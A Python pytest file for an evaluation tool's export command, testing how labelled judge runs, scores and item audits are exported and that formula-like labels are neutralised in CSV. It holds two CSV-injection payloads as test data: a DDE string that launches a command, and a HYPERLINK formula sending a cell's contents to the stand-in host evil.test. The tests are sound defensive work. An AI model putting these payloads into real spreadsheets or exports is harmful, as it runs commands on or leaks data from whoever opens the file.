"""`export` of labelled judge runs: each judge's default run by default, the runs `--run` chooses, or every
run with `--all-runs`, the label column telling them apart; a label a spreadsheet would run as a formula
is neutralised in CSV and exact in JSONL."""

from __future__ import annotations

import csv
import io
import json
from collections import Counter
from pathlib import Path

import pytest

from annotations.audits import record_item_audit
from gcpc_core.cli import main
from gcpc_core.csv_safe import csv_value
from gcpc_core.demo import DEMO_SIMULATED_LABEL
from gcpc_core.export import export_rows
from gcpc_core.judge import judge_project, score_project
from gcpc_core.store import Store

FORMULA = "=cmd|' /C calc'!A0"
"""A run label a spreadsheet would evaluate."""


@pytest.fixture
def runs(project: Store) -> dict[str, str]:
    """The demo project with a third probe run (labelled with a formula, the new default) and one item audit
    on each of two runs. Returns run name → label."""
    old = project.judging.default_labels()["probe"]
    judge_project(project, judge="probe", label=FORMULA, limit=4, progress=False)
    score_project(project)
    traj = project.judging.judgments(judge="probe", labels={"probe": FORMULA})[0]
    for label in (old, FORMULA):
        record_item_audit(project, trajectory_id=traj.trajectory_id, item_id=traj.item_id, judge="probe",
                          reviewer="alice", agree=True, label=label)
    return {"old": old, "new": FORMULA, "simulated": DEMO_SIMULATED_LABEL}


def _export(capsys: pytest.CaptureFixture[str], db: Path, *args: str) -> tuple[int, str, str]:
    capsys.readouterr()
    code = main(["export", "--db", str(db), *args])
    out = capsys.readouterr()
    return code, out.out, out.err


def _jsonl(text: str) -> list[dict]:
    return [json.loads(line) for line in text.splitlines()]


def test_default_chosen_and_every_run(project: Store, runs: dict[str, str], capsys: pytest.CaptureFixture[str]) -> None:
    db = project.path
    every = Counter(r.label for r in project.judging.judgments(all_labels=True))
    assert len(every) == 3
    code, out, _ = _export(capsys, db, "--what", "judgments")
    assert code == 0 and Counter(r["label"] for r in _jsonl(out)) == {runs["new"]: every[runs["new"]]}
    code, out, _ = _export(capsys, db, "--what", "judgments", "--run", runs["old"])
    assert code == 0 and Counter(r["label"] for r in _jsonl(out)) == {runs["old"]: every[runs["old"]]}
    code, out, _ = _export(capsys, db, "--what", "judgments", "--all-runs")
    rows = _jsonl(out)
    assert code == 0 and Counter(r["label"] for r in rows) == every
    # every run is exactly the runs one by one: the label keeps the same (trajectory, item) apart
    one_by_one = [r for label in every for r in export_rows(project, "judgments", labels={"probe": label})]
    key = ("label", "trajectory_id", "item_id")
    assert sorted(tuple(r[k] for k in key) for r in rows) == sorted(tuple(r[k] for k in key) for r in one_by_one)
    assert len({tuple(r[k] for k in key) for r in rows}) == len(rows)
    code, out, _ = _export(capsys, db, "--what", "scores", "--all-runs")
    assert Counter(r["label"] for r in _jsonl(out)) == Counter(r.label for r in project.judging.scores(all_labels=True))
    # item audits follow the run they audited
    code, out, _ = _export(capsys, db, "--what", "annotations")
    audits = [r for r in _jsonl(out) if r["kind"] == "item_audit"]
    assert [r["label"] for r in audits] == [runs["new"]] and audits[0]["is_current"]
    code, out, _ = _export(capsys, db, "--what", "annotations", "--all-runs")
    audits = [r for r in _jsonl(out) if r["kind"] == "item_audit"]
    assert sorted(r["label"] for r in audits) == sorted([runs["old"], runs["new"]]) and all(r["is_current"] for r in audits)


def test_bad_choices_are_refused_with_the_reason(project: Store, runs: dict[str, str],
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    db = project.path
    code, out, err = _export(capsys, db, "--what", "judgments", "--run", "nope")
    assert code == 2 and out == "" and "no judge run labelled 'nope'" in err and str(db) in err
    code, out, err = _export(capsys, db, "--what", "judgments", "--run", runs["old"], "--run", runs["new"])
    assert code == 2 and "two labels chosen for judge 'probe'" in err
    code, out, err = _export(capsys, db, "--what", "scores", "--run", runs["old"], "--all-runs")
    assert code == 2 and "--run or --all-runs, not both" in err
    for what in ("trials", "checklists"):
        code, out, err = _export(capsys, db, "--what", what, "--all-runs")
        assert code == 2 and out == "" and f"{what} rows belong to no judge run" in err


def test_a_formula_label_is_neutralised_in_csv(project: Store, runs: dict[str, str], tmp_path: Path,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "scores.csv"
    code, _, err = _export(capsys, project.path, "--what", "scores", "--all-runs", "--format", "csv", "--out", str(out))
    assert code == 0 and f"exported {len(project.judging.scores(all_labels=True))} scores rows" in err
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
    cells = Counter(r["label"] for r in rows)
    assert "'" + FORMULA in cells and FORMULA not in cells  # no live formula
    assert Counter(csv_value(c) for c in cells.elements()) == Counter(r.label for r in project.judging.scores(all_labels=True))


def test_audits_export_current_item_audits_flat_and_csv_safe(project: Store, runs: dict[str, str], tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    """`export --what audits`: the current item audits of the chosen runs, one flat row each (a re-answer replaces
    the earlier one; `annotations` keeps both); a note a spreadsheet would run is neutralised in CSV, exact in JSONL."""
    traj = project.judging.judgments(judge="probe", labels={"probe": runs["new"]})[0]
    note = '=HYPERLINK("http://evil.test/?"&A1,"x")'
    record_item_audit(project, trajectory_id=traj.trajectory_id, item_id=traj.item_id, judge="probe",
                      reviewer="alice", agree=False, corrected_verdict="No", note=note)
    code, out, _ = _export(capsys, project.path, "--what", "audits")
    [row] = _jsonl(out)
    assert code == 0 and row["label"] == runs["new"] and row["note"] == note
    assert (row["trajectory_id"], row["item_id"], row["judge"], row["rater"]) == (traj.trajectory_id, traj.item_id,
                                                                                 "probe", "alice")
    assert row["agree"] is False and row["corrected_verdict"] == "No" and row["selection"] == "unrecorded"
    code, out, _ = _export(capsys, project.path, "--what", "audits", "--all-runs")
    assert code == 0 and sorted(r["label"] for r in _jsonl(out)) == sorted([runs["old"], runs["new"]])
    path = tmp_path / "audits.csv"
    code, _, err = _export(capsys, project.path, "--what", "audits", "--format", "csv", "--out", str(path))
    assert code == 0 and "exported 1 audits rows" in err
    [cells] = list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))
    assert cells["note"] == "'" + note and csv_value(cells["note"]) == note  # no live formula, and reversible
    assert cells["label"] == "'" + FORMULA
